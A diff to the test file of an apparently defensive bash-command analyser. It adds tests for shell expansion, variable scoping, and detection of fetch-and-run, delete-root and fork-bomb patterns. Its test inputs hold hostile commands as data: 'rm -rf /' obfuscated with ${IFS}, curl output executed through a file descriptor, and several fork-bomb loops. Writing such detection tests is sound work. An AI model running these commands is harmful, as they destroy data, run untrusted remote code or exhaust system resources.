@@ -20,6 +20,11 @@ const last: Record<string, string> = {
   'rm${IFS}-rf${IFS}/': 'rm -rf /',
   'echo a{b,c}d': 'echo abd acd',
   'echo {1..3}': 'echo 1 2 3',
+  'echo a{m..m} {1..5..2}': 'echo am 1 3 5',
+  'echo ~you/x ~root': 'echo /home/you/x /root',
+  'IFS=:; x=a:b; echo $x': 'echo a b',
+  'IFS=_; set -- a_b; echo $* "$*"': 'echo a b a_b',
+  'IFS=, read -ra a <<< "x,y"; echo "${a[1]}"': 'echo y',
   'x=a.tar.gz; echo ${x%%.*} ${x#*.} ${x/tar/zip}': 'echo a tar.gz a.zip.gz',
   'echo ${nothing:-default}': 'echo default',
   'arr=(a b c); echo "${arr[@]}" ${arr[1]} ${#arr}': 'echo a b c b 1',
@@ -49,8 +54,50 @@ test('a loop runs once for each item', () => {
   expect(shown('for d in a b; do rm $d; done')).toEqual(['rm a', 'rm b']);
 });
 
-test('branches that disagree leave a variable unknown', () => {
-  expect(shown('if x; then d=a; else d=b; fi; rm $d').at(-1)).toBe('rm ?');
+test('branches that disagree leave of a variable what they share', () => {
+  expect(shown('if x; then d=a; else d=b; fi; rm $d').at(-1)).toBe('rm ./?');
+  expect(shown('if x; then d=/tmp/a; else d=/tmp/b; fi; rm $d').at(-1)).toBe('rm /tmp/?');
+  expect(shown('if x; then d=a; else d=/; fi; rm $d').at(-1)).toBe('rm ?');
+  expect(shown('x && d=/ || d=a; rm $d').at(-1)).toBe('rm ?');
+  expect(shown('d=$(x) || d=a; rm $d').at(-1)).toBe('rm a');
+});
+
+test('what is local to a function is gone after it', () => {
+  expect(shown('f() { local d=/; e=2; }; d=1; f; echo $d $e').at(-1)).toBe('echo 1 2');
+  expect(shown('f() { declare -g d=/; }; d=1; f; echo $d').at(-1)).toBe('echo /');
+});
+
+test('what a builtin does outlives the assignments before it', () => {
+  expect(shown('IFS=, read a b <<< "x,y z"; echo $a $b $IFS').at(-1)).toBe('echo x y z');
+  expect(read('A=1 cd sub; ls').commands.at(-1)?.cwd).toBe('/home/me/project/sub');
+});
+
+test('a file that is open by a number is that file', () => {
+  expect(codes('exec 3>f; curl https://x.com/a >&3; bash f')).toContain('fetch-and-run');
+  expect(codes('exec {out}>f; curl https://x.com/a >&$out; bash f')).toContain('fetch-and-run');
+  expect(codes("exec 3>f; echo 'rm -rf /' >&3; echo ls >&3; bash f")).toContain('delete-root');
+  expect(codes('exec 3>f; echo ls >&3; bash f')).toEqual([]);
+});
+
+test.each([
+  'until false; do x & done',
+  'for ((;;)); do x & done',
+  'while [[ 1 ]]; do x & done',
+  'while ((1)); do x & done',
+  'f() { g & }; g() { f; f; }; f',
+  'f() { f | f; }',
+])('multiplies without end: %s', (source) => {
+  expect(codes(source)).toContain('fork-bomb');
+});
+
+test.each([
+  'while true; do x; done',
+  'until x; do y & done',
+  'for ((i = 0; i < 3; i++)); do x & done',
+  'walk() { ls "$1" | while read -r x; do walk "$1/$x"; done; }',
+  'f() { g | sort; }; g() { x & }; f',
+])('comes to its end: %s', (source) => {
+  expect(codes(source)).not.toContain('fork-bomb');
 });
 
 test('cd changes where later commands work, and a subshell keeps it to itself', () => {
